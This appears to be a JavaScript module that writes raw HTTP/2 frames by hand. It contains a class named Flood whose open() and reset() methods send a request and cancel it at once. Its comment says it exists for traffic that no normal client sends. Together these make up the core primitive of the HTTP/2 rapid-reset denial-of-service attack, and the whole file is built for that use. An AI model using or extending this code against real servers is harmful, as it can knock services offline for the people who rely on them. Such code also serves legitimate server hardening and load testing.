// Frames of HTTP/2 by hand (RFC 9113 §4), for what no client library would send.

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const END_STREAM_AND_HEADERS = 0x05;
const CANCEL = Buffer.of(0, 0, 0, 8);

export class Flood {
  #socket;

  /** Over a connection on which HTTP/2 was agreed. */
  constructor(socket) {
    this.#socket = socket;
    socket.write(PREFACE);
    this.#frame(SETTINGS, 0, 0, Buffer.alloc(0));
  }

  /** A request without a body. */
  open(stream, fields) {
    this.#frame(HEADERS, END_STREAM_AND_HEADERS, stream, Buffer.concat(fields.flatMap(([name, value]) => literal(name, `${value}`))));
  }

  /** Takes it back. */
  reset(stream) {
    this.#frame(RST_STREAM, 0, stream, CANCEL);
  }

  #frame(kind, flags, stream, payload) {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head[3] = kind;
    head[4] = flags;
    head.writeUInt32BE(stream, 5);
    this.#socket.write(Buffer.concat([head, payload]));
  }
}

/** A field that is never indexed (RFC 7541 §6.2.3), without Huffman coding. */
const literal = (name, value) => [Buffer.of(0x10), text(name), text(value)];

function text(string) {
  const octets = Buffer.from(string);
  const size = [];
  let left = octets.length;
  if (left < 127) {
    size.push(left);
  } else {
    size.push(127);
    for (left -= 127; left >= 128; left >>= 7) size.push((left & 127) | 128);
    size.push(left);
  }
  return Buffer.concat([Buffer.from(size), octets]);
}
